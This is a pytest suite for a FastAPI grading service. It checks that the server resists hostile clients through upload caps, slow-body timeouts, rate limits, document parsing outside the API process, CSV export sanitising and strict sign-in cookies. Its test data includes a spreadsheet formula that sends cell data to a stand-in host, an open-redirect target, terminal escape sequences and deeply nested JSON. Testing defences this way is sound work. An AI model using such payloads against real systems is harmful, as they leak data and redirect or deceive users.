"""The HTTP edge against a hostile client: body caps before authentication, per-student limits,
documents read outside the server, validated ids and numbers, headers, sign-in, exports."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import logging
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from app.auth.service import create_token
from app.db.session import make_engine, make_sessionmaker, unit_of_work
from app.errors import UnreadableUpload
from app.main import create_app
from app.middleware import BodyLimit
from app.settings import Settings
from app.submissions.decoding import DecodeLimits, DocumentReader
from tests.app.conftest import Api, copy_sqlite, make_tokens
from tests.app.pdfs import text_pdf

SLUG = "transformer-basics"
UPLOAD = f"/api/v1/assignments/{SLUG}/submissions"
MIB = 1024 * 1024


@pytest.fixture(scope="module")
def edge(tmp_path_factory: pytest.TempPathFactory, sqlite_template: Path) -> Iterator[Api]:
    url = copy_sqlite(sqlite_template, tmp_path_factory.mktemp("edge"))
    settings = Settings(
        database_url=url, workers=1, max_upload_bytes=64 * 1024, upload_burst=3,
        uploads_per_minute=1, student_quota_bytes=3000, decode_max_pages=3,
    )
    engine = make_engine(url)
    sessions = make_sessionmaker(engine)
    with TestClient(create_app(settings)) as client:
        yield Api(client, sessions, settings, make_tokens(sessions))
    engine.dispose()


def _student(api: Api, name: str) -> dict[str, str]:
    with unit_of_work(api.sessions) as session:
        return {"Authorization": f"Bearer {create_token(session, name, 'student').token}"}


def _problem(response: Any, status: int) -> dict[str, Any]:
    assert response.status_code == status, response.text
    assert response.headers["content-type"].startswith("application/problem+json")
    body: dict[str, Any] = response.json()
    return body


def _chunks(total: int, size: int = MIB) -> Iterator[bytes]:
    for _ in range(total // size):
        yield b"x" * size


@pytest.mark.parametrize(
    ("path", "status"),
    # A route that parses its body before anything else meets the cap while reading; the
    # upload route checks the token first and then reads nothing at all.
    [("/api/v1/tokens", 413), ("/sign-in", 413), (UPLOAD, 401), ("/nowhere", 404)],
)
def test_a_streamed_body_over_the_cap_is_never_read_past_it(
    edge: Api, path: str, status: int
) -> None:
    response = edge.client.post(path, content=_chunks(64 * MIB))  # chunked, no token
    assert _problem(response, status)["status"] == status
    signed_in = edge.client.post(path, content=_chunks(64 * MIB), headers=edge.auth("root"))
    assert signed_in.status_code in (404, 413)


def test_a_declared_body_over_the_cap_is_refused_without_reading_it() -> None:
    async def never_called() -> dict[str, Any]:
        raise AssertionError("the body was read")

    async def app(*_: Any) -> None:
        raise AssertionError("the request reached the app")

    sent: list[dict[str, Any]] = []

    async def send(message: Any) -> None:
        sent.append(message)

    scope = {"type": "http", "path": UPLOAD, "headers": [(b"content-length", b"67108864")]}
    asyncio.run(BodyLimit(app, lambda _: 1024, 5.0)(scope, never_called, send))
    assert sent[0]["status"] == 413 and (b"connection", b"close") in sent[0]["headers"]


def test_a_stalled_body_is_dropped() -> None:
    async def stall() -> dict[str, Any]:
        await asyncio.sleep(10)
        raise AssertionError("unreachable")

    async def app(_scope: Any, receive: Any, _send: Any) -> None:
        await receive()

    sent: list[dict[str, Any]] = []

    async def send(message: Any) -> None:
        sent.append(message)

    scope = {"type": "http", "path": "/api/v1/tokens", "headers": []}
    asyncio.run(BodyLimit(app, lambda _: 1024, 0.05)(scope, stall, send))
    assert sent[0]["status"] == 408


@pytest.mark.parametrize(("path", "headers", "dropped_by"), [
    ("/sign-in", [], 0.3),  # anonymous: the whole body within anonymous_seconds
    # An upload (its route checks the credential before reading): read_timeout + bytes /
    # min_rate, 10 bytes a second against 100 ends near 0.5 / 0.9 s
    (UPLOAD, [(b"authorization", b"Bearer forged")], 0.56),
    (UPLOAD, [(b"cookie", b"a=b; gf_session=forged")], 0.56),
    # Elsewhere the body is read before the credential is checked: anonymous_seconds + bytes /
    # min_rate, near 0.3 / 0.9 s
    ("/sign-in", [(b"authorization", b"Bearer forged")], 0.33),
    ("/api/v1/tokens", [(b"cookie", b"a=b; gf_session=forged")], 0.33),
])
def test_a_body_dripped_byte_by_byte_is_dropped_by_its_whole_body_deadline(
        path: str, headers: list[tuple[bytes, bytes]], dropped_by: float) -> None:
    """Every chunk arrives well within the per-chunk timeout, yet the body never completes:
    the connection is answered 408 once the whole body's deadline passes."""
    async def drip() -> dict[str, Any]:
        await asyncio.sleep(0.1)
        return {"type": "http.request", "body": b"x", "more_body": True}

    async def app(_scope: Any, receive: Any, _send: Any) -> None:
        while True:
            await receive()

    sent: list[dict[str, Any]] = []

    async def send(message: Any) -> None:
        sent.append(message)

    async def run() -> float:
        scope = {"type": "http", "path": path, "headers": headers}
        started = asyncio.get_running_loop().time()
        await BodyLimit(app, lambda _: 10**6, 0.5, anonymous_seconds=0.3, min_rate=100)(
            scope, drip, send)
        return asyncio.get_running_loop().time() - started

    took = asyncio.run(run())
    assert sent[0]["status"] == 408
    assert dropped_by - 0.15 <= took <= dropped_by + 1.0, took


def test_rate_limit_per_student_with_retry_after_staff_exempt(edge: Api) -> None:
    carol = _student(edge, "carol")
    body = {"answers": {"B1": "64"}}
    assert [edge.client.post(UPLOAD, json=body, headers=carol).status_code for _ in range(3)] == [
        202, 202, 202,
    ]
    limited = edge.client.post(UPLOAD, json=body, headers=carol)
    assert _problem(limited, 429)["retry_after"] >= 1 and int(limited.headers["retry-after"]) >= 1
    staff = [edge.client.post(UPLOAD, params={"student": "carol"}, json=body,
                              headers=edge.auth("prof")) for _ in range(5)]
    assert {r.status_code for r in staff} == {202}


def test_storage_quota_per_student(edge: Api) -> None:
    dave = _student(edge, "dave")
    document = json.dumps({"answers": {"B1": "6" * 1900}}).encode()
    headers = {**dave, "content-type": "application/json"}
    ok = edge.client.post(UPLOAD, content=document, headers=headers)
    assert ok.status_code == 202, ok.text
    over = edge.client.post(UPLOAD, content=document, headers=headers)
    assert _problem(over, 413)["type"].endswith("/quota-exceeded")


@pytest.mark.parametrize(
    ("body", "words"),
    [
        (b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 9 0 R >> endobj\ntrailer <<>>\n%%EOF", "pdf"),
        (b"%PDF-1.4\n" + b"\xff" * 3000, "pdf"),
        (text_pdf(["B1 answer", "x", "y", "z"]), "4 pages"),
        (b'{"cells": [{"cell_type": "code", "source": 7}], "nbformat": 4}', "notebook"),
    ],
)
def test_malformed_or_oversized_documents_are_422_not_500(
    edge: Api, body: bytes, words: str
) -> None:
    response = edge.client.post(
        UPLOAD, files={"file": ("doc.pdf" if body.startswith(b"%") else "n.ipynb", body)},
        headers=edge.auth("prof"),
    )
    assert words in _problem(response, 422)["detail"].lower()


@pytest.mark.parametrize(("name", "content_type", "body"), [
    # a PDF behind whitespace, sent as text: the reader strips the spaces and finds a PDF
    ("answers.txt", "text/plain", b" " * 1100 + text_pdf(["B1 64"])),
    ("answers.txt", "text/plain", b"\n\t " * 500 + text_pdf(["B1 64", "x", "y", "z"])),
    # a notebook whose "cells" key is spelt with escapes, sent as JSON
    ("answers.json", "application/json",
     b'{"\\u0063ells": [{"cell_type": "markdown", "source": "B1: 64", "metadata": {}}], '
     b'"metadata": {}, "nbformat": 4, "nbformat_minor": 5}'),
])
def test_a_disguised_pdf_or_notebook_is_never_parsed_in_the_server(
        edge: Api, monkeypatch: pytest.MonkeyPatch, name: str, content_type: str,
        body: bytes) -> None:
    """Whatever the name, type or first bytes say, PDF and notebook parsing happens only in a
    bounded child: in the API process those parsers are made to fail the test."""
    from graders.documents import formats

    def never(*_args: object, **_kwargs: object) -> None:
        raise AssertionError("a heavy parse ran inside the API process")

    monkeypatch.setattr(formats, "_pdf_text", never)
    monkeypatch.setattr(formats, "_notebook_text", never)
    response = edge.client.post(UPLOAD, files={"file": (name, body, content_type)},
                                headers=edge.auth("prof"))
    assert response.status_code in (202, 422), response.text
    if response.status_code == 422:  # the child's verdict, e.g. the page cap of 3
        assert "pages" in response.json()["detail"] or "notebook" in response.json()["detail"]


# Every kind of document the server takes, readable or not, with what the answer says.
STUDENT_DOCUMENTS = [
    ("a.json", "application/json", b'{"answers": {"B1": "64"}}', 202, ""),
    ("a.txt", "text/plain", b"B1: d_head = 768 / 12 = 64\n", 202, ""),
    ("a.md", "text/markdown", b"## B1\n\n$d_{head} = 64$\n", 202, ""),
    ("a.tex", None, b"\\section*{B1} $d_{head} = 64$\n", 202, ""),
    ("a.py", None, b"def attention(Q, K, V):\n    return Q\n", 202, ""),
    ("deep.json", "application/json",
     b'{"answers": {"B1": ' + b"[" * 20_000 + b"]" * 20_000 + b"}}", 422, "nested too deeply"),
    ("digits.json", "application/json", b'{"answers": {"B1": ' + b"7" * 5000 + b"}}", 422,
     "more than 100 digits"),
    ("bad.json", "application/json", b'{"answers": {"B1": 64,}}', 422, "line 1, column"),
    ("keys.json", "application/json", b'{"answer": {"B1": "64"}}', 422,
     "unexpected top-level keys: answer"),
    ("bin.txt", "text/plain", b"\x01\x02\x03" * 100, 422, "control characters"),
    ("nul.md", None, b"B1\x00", 422, "nul byte"),
    ("latin.tex", None, b"B1: caf\xe9", 422, "not utf-8"),
    ("blank.txt", None, b" \n\t ", 422, "empty"),
    ("a.docx", None, b"PK\x03\x04", 422, "unsupported file type"),
]


@pytest.mark.parametrize(("name", "content_type", "body", "status", "words"), STUDENT_DOCUMENTS)
def test_no_student_document_is_decoded_in_the_server(
        edge: Api, monkeypatch: pytest.MonkeyPatch, name: str, content_type: str | None,
        body: bytes, status: int, words: str) -> None:
    """Text and JSON too are read by a helper process: in the API process every decoder is
    made to fail the test, and each upload is still accepted or refused with its reason
    (problem+json, type unreadable-upload)."""
    from graders.documents import formats, submission

    def never(*_args: object, **_kwargs: object) -> None:
        raise AssertionError("student bytes were decoded inside the API process")

    for module, name_ in [(formats, "decode_document"), (formats, "decode_text"),
                          (formats, "_load_json"), (submission, "decode_document")]:
        monkeypatch.setattr(module, name_, never)
    file = (name, body) if content_type is None else (name, body, content_type)
    response = edge.client.post(UPLOAD, files={"file": file}, headers=edge.auth("prof"))
    if status == 202:
        assert response.status_code == 202, response.text
        return
    problem = _problem(response, 422)
    assert problem["type"].endswith("/unreadable-upload"), problem
    assert words in problem["detail"].lower(), problem


def test_a_declared_edition_is_checked_before_the_document_is_read(edge: Api) -> None:
    """The upload's own field is refused as before (invalid-input, naming the field), even
    with a document that could not be read."""
    response = edge.client.post(UPLOAD, params={"handout": "x" * 100},
                                files={"file": ("a.txt", b"\x00")}, headers=edge.auth("prof"))
    problem = _problem(response, 422)
    assert problem["type"].endswith("/invalid-input") and problem["field"] == "handout"


def test_a_light_read_past_its_memory_or_time_is_422_and_the_helper_is_replaced() -> None:
    """The warm helpers that read text and JSON are bounded like the forked children: over
    the budget the document is refused (not the server), and the next upload is read by a
    fresh helper."""
    many_strings = b'{"answers": {"B1": [' + b",".join([b'"x"'] * 300_000) + b"]}}"
    small = DocumentReader(DecodeLimits(seconds=5, max_pages=10, memory_bytes=4 * MIB), 1)
    slow = DocumentReader(DecodeLimits(seconds=0.001, max_pages=10, memory_bytes=256 * MIB), 1)
    try:
        with pytest.raises(UnreadableUpload, match="too much memory"):
            asyncio.run(small.read_document(many_strings, "a.json", None))
        assert asyncio.run(small.read_document(b'{"answers": {"B1": 1}}', "a.json", None)) == (
            "json", None)
        with pytest.raises(UnreadableUpload, match="could not be read within"):
            asyncio.run(slow.read_document(b"B1: 64 " * 300_000, "a.txt", None))
    finally:
        small.close()
        slow.close()


def test_a_readable_pdf_is_accepted(edge: Api) -> None:
    response = edge.client.post(
        UPLOAD, files={"file": ("a.pdf", text_pdf(["B1: d_head = 64"]), "application/pdf")},
        headers=edge.auth("prof"),
    )
    assert response.status_code == 202, response.text


def test_reading_past_the_deadline_is_422() -> None:
    reader = DocumentReader(DecodeLimits(seconds=0.001, max_pages=10, memory_bytes=256 * MIB), 1)
    try:
        with pytest.raises(UnreadableUpload, match="could not be read within"):
            asyncio.run(reader.read_document(text_pdf(["B1: 64"] * 3), "a.pdf", None))
    finally:
        reader.close()


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("GET", f"/api/v1/submissions/{2**63}"),
        ("GET", f"/api/v1/submissions/{2**64 + 5}/results.json"),
        ("GET", f"/api/v1/regrades/{2**63}"),
        ("DELETE", f"/api/v1/tokens/{2**63}"),
        ("PUT", f"/api/v1/submissions/{2**63}/items/b1.d_head/override"),
    ],
)
def test_ids_beyond_64_bits_are_4xx(edge: Api, method: str, path: str) -> None:
    who = "root" if "tokens" in path else "prof"
    response = edge.client.request(method, path, json={"points": 1}, headers=edge.auth(who))
    assert _problem(response, 422)["status"] == 422


@pytest.mark.parametrize("points", ["1e400", "-1e400", "1e300", "NaN"])
def test_absurd_points_are_422(edge: Api, points: str) -> None:
    uploaded = edge.client.post(UPLOAD, params={"student": "erin"}, json={"answers": {"B1": "64"}},
                                headers=edge.auth("prof"))
    path = f"/api/v1/submissions/{uploaded.json()['id']}/items/b1.d_head/override"
    response = edge.client.put(
        path, content=f'{{"points": {points}}}',
        headers={**edge.auth("prof"), "content-type": "application/json"},
    )
    _problem(response, 422)


def test_staff_upload_takes_the_student_from_the_parameter_never_the_document(edge: Api) -> None:
    document = {"student_id": "carol", "answers": {"B1": "64"}}
    anonymous = edge.client.post(UPLOAD, json=document, headers=edge.auth("prof"))
    assert "No student" in _problem(anonymous, 422)["detail"]  # not filed under carol
    explicit = edge.client.post(
        f"{UPLOAD}?student=erin", json=document, headers=edge.auth("prof")
    ).json()["id"]
    assert edge.client.get(f"/api/v1/submissions/{explicit}", headers=edge.auth("prof")).json()[
        "student"
    ] == "erin"


def test_csv_cells_cannot_be_formulas(edge: Api) -> None:
    for name in ('=HYPERLINK("http://evil.example/?"&A1,"grade")', "+1+1", "@SUM(A1)", "-2+3"):
        response = edge.client.post(
            UPLOAD, params={"student": name}, json={"answers": {"B1": "64"}},
            headers=edge.auth("prof"),
        )
        assert response.status_code == 202
    export = edge.client.get(f"/api/v1/assignments/{SLUG}/export.csv", headers=edge.auth("prof"))
    rows = list(csv.reader(io.StringIO(export.text)))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or c.startswith("-2")]
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"grade\")" in cells


def test_security_headers(edge: Api) -> None:
    assert edge.client.get("/healthz").headers["x-content-type-options"] == "nosniff"
    form = edge.client.get(f"/assignments/{SLUG}/dashboard")
    policy = form.headers["content-security-policy"]
    assert "frame-ancestors 'none'" in policy and "script-src 'none'" in policy
    assert form.headers["x-content-type-options"] == "nosniff"
    docs = edge.client.get("/docs").headers["content-security-policy"]
    assert "frame-ancestors 'none'" in docs and "https:" not in docs  # assets served here


def test_dashboard_sign_in_sets_a_strict_cookie_and_never_takes_a_token_in_the_url(
    edge: Api,
) -> None:
    url = f"/assignments/{SLUG}/dashboard"
    browser = TestClient(edge.client.app)
    ignored = browser.get(url, params={"token": edge.tokens["prof"]})
    assert 'name="token"' in ignored.text and 'method="post"' in ignored.text  # still the form
    signed = browser.post(
        "/sign-in", data={"token": edge.tokens["prof"], "next": url}, follow_redirects=False
    )
    assert signed.status_code == 303 and signed.headers["location"] == url
    cookie = signed.headers["set-cookie"].lower()
    assert "httponly" in cookie and "samesite=strict" in cookie and "path=/" in cookie
    assert edge.tokens["prof"].lower() not in cookie
    page = browser.get(url)
    nonce = page.headers["content-security-policy"].split("'nonce-")[1].split("'")[0]
    assert f'<script nonce="{nonce}">' in page.text and "<script>" not in page.text
    away = browser.post("/sign-in", data={"token": edge.tokens["prof"], "next": "//evil.example"},
                        follow_redirects=False)
    assert away.headers["location"] == "/"
    browser.post("/sign-out")
    assert 'name="token"' in browser.get(url).text


def test_a_client_disconnect_logs_one_line(edge: Api, caplog: pytest.LogCaptureFixture) -> None:
    app = edge.client.app
    messages = iter([
        {"type": "http.request", "body": b'{"answers": ', "more_body": True},
        {"type": "http.disconnect"},
    ])

    async def receive() -> Any:
        return next(messages)

    async def send(_message: Any) -> None:
        pass

    scope = {
        "type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "POST",
        "scheme": "http", "path": UPLOAD, "raw_path": UPLOAD.encode(), "query_string": b"",
        "root_path": "", "server": ("testserver", 80), "client": ("127.0.0.1", 1),
        "headers": [(b"content-type", b"application/json"),
                    (b"authorization", f"Bearer {edge.tokens['prof']}".encode())],
        "state": {}, "app": app,
    }
    with caplog.at_level(logging.INFO):
        asyncio.run(app(scope, receive, send))  # type: ignore[arg-type]
    records = [r for r in caplog.records if "disconnect" in r.getMessage()]
    assert len(records) == 1 and records[0].exc_info is None
    assert not [r for r in caplog.records if r.exc_info]


def test_openapi_declares_the_regrade_job(edge: Api) -> None:
    paths = edge.client.get("/openapi.json").json()["paths"]
    assert "/api/v1/regrades/{job_id}" in paths and "/sign-in" not in paths


def test_client_chosen_names_are_stored_clean(edge: Api) -> None:
    hostile = "a\x1b]0;x\x07\u202etxt.md"
    # A student id with control characters is refused, named or taken from the file name.
    for params in ({"student": "eve\x1b[2J\u202e"}, {}):
        refused = edge.client.post(
            UPLOAD, params=params, headers=edge.auth("prof"),
            files={"file": (hostile, b"B1: d_head = 64", "text/markdown")})
        assert "printable" in _problem(refused, 422)["detail"]
    response = edge.client.post(
        UPLOAD, params={"student": "eve"},
        files={"file": (hostile, b"B1: d_head = 64", "text/markdown")},
        headers=edge.auth("prof"),
    )
    assert response.status_code == 202, response.text
    body = edge.client.get(
        f"/api/v1/submissions/{response.json()['id']}", headers=edge.auth("prof")
    ).json()
    for text in (body["filename"], body["student"]):
        assert not any(ch in text for ch in ("\x1b", "\x07", "\u202e")), text


def test_a_reader_helper_that_died_idle_is_replaced_not_blamed_on_the_upload() -> None:
    """A light helper killed while idle (the out-of-memory killer, an operator): the next
    upload is read by a fresh one, small (read on the event loop) or large (on a thread)."""
    reader = DocumentReader(DecodeLimits(seconds=5, max_pages=10, memory_bytes=256 * MIB), 1)
    small, large = b'{"answers": {"B1": "64"}}', b"B1: 64\n" * 20_000

    async def read(raw: bytes, name: str) -> tuple[str, str | None]:
        return await reader.read_document(raw, name, None, owner="alice")

    try:
        assert asyncio.run(read(small, "a.json")) == ("json", None)
        for raw, name, fmt in [(small, "a.json", "json"), (large, "a.txt", "text")]:
            for helper in list(reader._pools["light"]._all):
                helper.process.kill()
                helper.process.join(5)
            assert asyncio.run(read(raw, name)) == (fmt, None)
    finally:
        reader.close()
